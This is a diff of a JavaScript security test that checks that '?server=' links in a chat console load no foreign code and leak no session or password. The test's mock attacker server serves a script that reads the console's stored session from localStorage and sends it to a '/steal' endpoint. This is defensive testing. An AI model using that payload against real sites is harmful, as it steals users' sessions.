@@ -2,38 +2,33 @@
 // load no code from it and send it nothing (console and demo); the console carries a strict CSP
 // and still works under it; the demo page lives on its own origin, away from the console's
 // stored session.
-import { test, after } from 'node:test';
+import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createServer } from 'node:http';
 import { join } from 'node:path';
 import {
-  ROOT, PASSWORD, ARTIFACTS, startServer, browser, closeBrowser, newPage, waitFor, W
+  stack, ROOT, PASSWORD, ARTIFACTS, browser, newPage, waitFor, W
 } from './harness.mjs';
 
-let server, attacker;
+const s = stack();
+let server;
 const hits = [];
-after(async () => {
-  await closeBrowser();
-  await server?.kill();
-  server?.cleanup();
-  await new Promise((r) => attacker ? attacker.close(r) : r());
-});
 
 /** An attacker's server that serves "stolen" scripts and records every request. */
 async function startAttacker() {
-  const s = createServer((req, res) => {
+  const srv = createServer((req, res) => {
     hits.push(`${req.method} ${req.url}`);
     res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
     res.end("fetch('/steal?' + encodeURIComponent(localStorage.getItem('wsmschat-console:session')));\nexport default async function () {}\n");
   });
-  await new Promise((r) => s.listen(0, '127.0.0.1', r));
-  return { server: s, url: `http://127.0.0.1:${s.address().port}`, close: (cb) => s.close(cb) };
+  await new Promise((r) => srv.listen(0, '127.0.0.1', r));
+  return { server: srv, url: `http://127.0.0.1:${srv.address().port}`, close: (cb) => srv.close(cb) };
 }
 
 test('?server= links run no foreign code and leak no session or password', async () => {
-  server = await startServer({ args: ['--console-dir', join(ROOT, 'console/dist')] });
+  server = await s.startServer({ args: ['--console-dir', join(ROOT, 'console/dist')] });
   const evil = await startAttacker();
-  attacker = evil.server;
+  s.own(() => new Promise((r) => evil.server.close(r)));
   const context = await (await browser()).newContext();
   const page = await newPage(context);
 
